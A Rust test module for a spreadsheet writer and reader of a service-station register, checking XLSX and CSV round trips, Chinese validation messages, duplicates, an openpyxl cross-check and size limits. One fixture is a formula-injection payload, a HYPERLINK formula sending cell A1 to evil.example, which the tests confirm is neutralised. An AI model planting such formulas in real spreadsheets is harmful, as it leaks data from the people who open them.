//! Round trips through the writer and the reader, and a check of the XLSX by
//! a reader this project did not write (Python's openpyxl).

use std::path::PathBuf;
use std::process::Command;

use chrono::NaiveDate;

use super::read::{ReadLimits, read_table};
use super::stations::{self, CellError, StationRecord, duplicates, parse_station_row};
use super::write::{Cell, Column, ColumnKind, SheetFormat, TableSpec, TableWriter};
use crate::domain::{Category, StationStatus};

type TestResult = Result<(), Box<dyn std::error::Error>>;

const UNITS: &[&str] = &["220102", "220103"];
const STANDARDS: &[&str] = &["bayige-2024"];
const HYPERLINK: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")";

fn date(y: i32, m: u32, d: u32) -> Result<NaiveDate, Box<dyn std::error::Error>> {
    NaiveDate::from_ymd_opt(y, m, d).ok_or_else(|| "bad date".into())
}

fn records() -> Result<Vec<StationRecord>, Box<dyn std::error::Error>> {
    let base = StationRecord {
        unit_code: "220102".into(),
        name: "欧亚商都消费维权服务站".into(),
        host_business: "长春欧亚集团股份有限公司".into(),
        credit_code: Some("91350100M000100Y43".into()),
        category: Category::Mall,
        address: "长春市朝阳区工农大路1128号".into(),
        liaison_name: "王丽".into(),
        liaison_phone: "0431-85671234".into(),
        standard_id: "bayige-2024".into(),
        status: StationStatus::Established,
        established_on: Some(date(2024, 5, 20)?),
    };
    let second = StationRecord {
        name: HYPERLINK.into(),
        credit_code: None,
        category: Category::Supermarket,
        liaison_phone: "13943912345".into(),
        status: StationStatus::Model,
        established_on: Some(date(2025, 1, 2)?),
        ..base.clone()
    };
    let third = StationRecord {
        unit_code: "220103".into(),
        name: "红旗街万达广场服务站".into(),
        credit_code: Some("91110000802100433B".into()),
        category: Category::Market,
        status: StationStatus::Planned,
        established_on: None,
        ..base.clone()
    };
    // a dropped plan reads 取消建站计划 and reads back as revoked
    let fourth = StationRecord {
        name: "计划取消服务站".into(),
        credit_code: None,
        status: StationStatus::Revoked,
        established_on: None,
        ..third.clone()
    };
    Ok(vec![base, second, third, fourth])
}

fn export(format: SheetFormat, records: &[StationRecord]) -> Result<Vec<u8>, Box<dyn std::error::Error>> {
    let mut w = TableWriter::new(format, stations::table_spec(None))?;
    for r in records {
        w.push(&stations::record_cells(r), false)?;
    }
    Ok(w.finish()?)
}

fn import(bytes: &[u8]) -> Result<Vec<StationRecord>, Box<dyn std::error::Error>> {
    let table = read_table(bytes, &stations::expected(), &ReadLimits::default())?;
    assert!(table.unknown_headers.is_empty(), "{:?}", table.unknown_headers);
    let mut out = Vec::new();
    for row in &table.rows {
        out.push(parse_station_row(row, UNITS, STANDARDS).map_err(|e| format!("{e:?}"))?);
    }
    Ok(out)
}

#[test]
fn xlsx_round_trip_keeps_values_and_neutralises_the_formula() -> TestResult {
    let original = records()?;
    let bytes = export(SheetFormat::Xlsx, &original)?;
    let table = read_table(&bytes, &stations::expected(), &ReadLimits::default())?;
    let raw = &table.rows[1];
    assert_eq!(
        (raw.number, raw.get(stations::NAME)),
        (3, format!("'{HYPERLINK}").as_str())
    );
    assert_eq!(
        raw.get(stations::ESTABLISHED),
        "2025-01-02",
        "a date cell reads as the date"
    );
    assert_eq!(import(&bytes)?, original, "export then import is the identity");
    Ok(())
}

#[test]
fn csv_round_trip_with_bom() -> TestResult {
    let original = records()?;
    let bytes = export(SheetFormat::Csv, &original)?;
    assert!(bytes.starts_with("\u{feff}单位代码,服务站名称".as_bytes()));
    let text = String::from_utf8(bytes.clone())?;
    assert!(text.contains(",\"'=HYPERLINK("), "{text}");
    assert_eq!(import(&bytes)?, original);
    Ok(())
}

#[test]
fn bad_rows_give_chinese_errors_at_sheet_rows() -> TestResult {
    let csv = "服务站名录\n\
        状态,单位代码,服务站名称,经营者,统一社会信用代码,类别,地址,联络员,联络电话,检查标准,建站日期,备注\n\
        已建成,220102,一站,甲公司,91350100M000100Y44,商场,某路1号,张三,12315,bayige-2024,2024/05/20,\n\
        ,999999,,乙公司,,赌场,某路2号,李四,13943912345,old,2024-02-30,\n\
        样板站,220102,三站,丙公司,,supermarket,某路3号,王五,0431-85671234,bayige-2024,,\n";
    let table = read_table(csv.as_bytes(), &stations::expected(), &ReadLimits::default())?;
    assert_eq!(table.unknown_headers, vec!["备注".to_string()]);
    let errors: Vec<CellError> = table
        .rows
        .iter()
        .filter_map(|r| parse_station_row(r, UNITS, STANDARDS).err())
        .flatten()
        .collect();
    let shown: Vec<String> = errors.iter().map(|e| e.to_string()).collect();
    assert_eq!(
        shown,
        [
            "第3行“联络电话”：应为11位手机号或带区号的固定电话",
            "第3行“统一社会信用代码”：统一社会信用代码校验位错误",
            "第4行“服务站名称”：不能为空",
            "第4行“单位代码”：未知的单位代码“999999”",
            "第4行“检查标准”：未知的检查标准“old”，可选：bayige-2024",
            "第4行“类别”：无法识别“赌场”，可选：商场、超市、市场、企业、景区、酒店、电信、金融、邮政快递、其他",
            "第4行“建站日期”：日期“2024-02-30”无法识别，应如 2026-03-15",
            "第5行“建站日期”：“样板站”的服务站须填写建站日期",
        ]
    );
    Ok(())
}

#[test]
fn duplicates_name_the_first_row() -> TestResult {
    let r = records()?;
    let mut again = r[0].clone();
    again.name = "另一个名称".into();
    let mut same_name = r[2].clone();
    same_name.credit_code = None;
    let rows = vec![(2, r[0].clone()), (3, r[2].clone()), (7, again), (9, same_name)];
    let shown: Vec<String> = duplicates(&rows).iter().map(|e| e.to_string()).collect();
    assert_eq!(
        shown,
        [
            "第7行“统一社会信用代码”：与第2行的统一社会信用代码重复",
            "第9行“服务站名称”：与第3行同一单位的服务站名称重复"
        ]
    );
    Ok(())
}

/// The openpyxl interpreter: `target/py` as `.ci/run` creates it.
fn python() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("target/py/bin/python")
}

const OPENPYXL_CHECK: &str = r#"
import sys, datetime, openpyxl
ws = openpyxl.load_workbook(sys.argv[1]).worksheets[0]
assert [c.value for c in ws[1]] == sys.argv[3].split(","), [c.value for c in ws[1]]
assert ws.freeze_panes == "A2", ws.freeze_panes
assert ws.auto_filter.ref == "A1:K5", ws.auto_filter.ref
assert ws["J3"].value == "样板站" and ws["J5"].value == "取消建站计划", (ws["J3"].value, ws["J5"].value)
name = ws["B3"]
assert name.data_type == "s" and name.value.startswith("'=HYPERLINK("), (name.data_type, name.value)
assert ws["K2"].is_date and ws["K2"].value.date() == datetime.date(2024, 5, 20), ws["K2"].value
ws = openpyxl.load_workbook(sys.argv[2]).worksheets[0]
assert ws["A1"].value == "2026年服务站建设进度" and ws["B2"].value == "单位"
assert ws["C3"].number_format == "0.0%" and ws["C3"].value == 0.125, (ws["C3"].number_format, ws["C3"].value)
assert ws["A3"].value == "▲" and ws["B3"].font.b and not ws["B4"].font.b and ws["A4"].value is None
assert ws.freeze_panes == "A3" and ws.auto_filter.ref == "A2:D4", (ws.freeze_panes, ws.auto_filter.ref)
print("ok")
"#;

fn progress_xlsx() -> Result<Vec<u8>, Box<dyn std::error::Error>> {
    let spec = TableSpec {
        sheet_name: "进度".into(),
        title: Some("2026年服务站建设进度".into()),
        mark_header: Some("滞后".into()),
        columns: vec![
            Column::new("单位", 16.0, ColumnKind::Text),
            Column::new("完成率", 10.0, ColumnKind::Percent),
            Column::new("已建", 8.0, ColumnKind::Integer),
        ],
    };
    let mut w = TableWriter::new(SheetFormat::Xlsx, spec)?;
    w.push(&[Cell::Text("朝阳区".into()), Cell::Percent(0.125), Cell::Int(3)], true)?;
    w.push(&[Cell::Text("南关区".into()), Cell::Percent(1.0), Cell::Int(12)], false)?;
    Ok(w.finish()?)
}

#[test]
fn openpyxl_reads_what_we_write() -> TestResult {
    let py = python();
    let install = "CI installs it in .ci/run: python3 -m venv target/py && target/py/bin/pip install openpyxl";
    let probe = Command::new(&py).args(["-c", "import openpyxl"]).status();
    assert!(
        probe.as_ref().is_ok_and(|s| s.success()),
        "{} with openpyxl is missing ({probe:?}); {install}",
        py.display()
    );
    let dir = tempfile::tempdir()?;
    let (register, progress) = (dir.path().join("名录.xlsx"), dir.path().join("进度.xlsx"));
    std::fs::write(&register, export(SheetFormat::Xlsx, &records()?)?)?;
    std::fs::write(&progress, progress_xlsx()?)?;
    let headers: Vec<&str> = stations::COLUMNS.iter().map(|c| c.header_zh).collect();
    let out = Command::new(&py)
        .args(["-c", OPENPYXL_CHECK])
        .arg(&register)
        .arg(&progress)
        .arg(headers.join(","))
        .output()?;
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "openpyxl check failed: {stderr}");
    Ok(())
}

/// An XLSX typed by a clerk: a unit code and a phone as numbers, a date cell.
fn typed_xlsx(rows: u32) -> Result<Vec<u8>, Box<dyn std::error::Error>> {
    let mut book = rust_xlsxwriter::Workbook::new();
    let sheet = book.add_worksheet();
    for (col, h) in ["联络电话", "单位代码", "建站日期"].iter().enumerate() {
        sheet.write_string(0, col as u16, *h)?;
    }
    let day = rust_xlsxwriter::ExcelDateTime::from_ymd(2024, 5, 20)?;
    let date_format = rust_xlsxwriter::Format::new().set_num_format("yyyy年m月d日");
    for row in 1..=rows {
        sheet.write_number(row, 0, 13943912345.0)?;
        sheet.write_number(row, 1, 220102.0)?;
        sheet.write_datetime_with_format(row, 2, &day, &date_format)?;
    }
    Ok(book.save_to_buffer()?)
}

#[test]
fn numbers_and_dates_typed_in_excel_read_as_shown() -> TestResult {
    let wanted = [stations::PHONE, stations::UNIT, stations::ESTABLISHED];
    let cols: Vec<_> = stations::expected()
        .into_iter()
        .filter(|e| wanted.contains(&e.header_zh))
        .collect();
    let table = read_table(&typed_xlsx(1)?, &cols, &ReadLimits::default())?;
    let row = &table.rows[0];
    assert_eq!(
        (row.number, row.get(stations::PHONE), row.get(stations::UNIT)),
        (2, "13943912345", "220102")
    );
    assert_eq!(row.get(stations::ESTABLISHED), "2024-05-20");
    let all = read_table(&typed_xlsx(1)?, &stations::expected(), &ReadLimits::default());
    let missing = [
        stations::NAME,
        stations::HOST,
        stations::CATEGORY,
        stations::ADDRESS,
        stations::LIAISON,
        stations::STANDARD,
    ];
    assert_eq!(
        all,
        Err(super::read::ReadError::MissingHeaders(
            missing.map(String::from).to_vec()
        ))
    );
    Ok(())
}

#[test]
fn xlsx_limits_and_damage_are_errors() -> TestResult {
    use super::read::ReadError;
    let bytes = typed_xlsx(50)?;
    let cols = &stations::expected()[7..8];
    let few = ReadLimits {
        max_rows: 10,
        ..ReadLimits::default()
    };
    assert_eq!(
        read_table(&bytes, cols, &few),
        Err(ReadError::TooManyRows { row: 11, limit: 10 })
    );
    let tight = ReadLimits {
        max_unzipped_bytes: 1_000,
        ..ReadLimits::default()
    };
    assert!(matches!(
        read_table(&bytes, cols, &tight),
        Err(ReadError::TooLarge { limit: 1_000, .. })
    ));
    for cut in (0..bytes.len()).step_by(97) {
        assert!(
            read_table(&bytes[..cut], cols, &ReadLimits::default()).is_err(),
            "cut at {cut}"
        );
    }
    let mut flipped = bytes.clone();
    for i in (30..flipped.len()).step_by(13) {
        flipped[i] ^= 0x5a;
    }
    assert!(read_table(&flipped, cols, &ReadLimits::default()).is_err());
    Ok(())
}
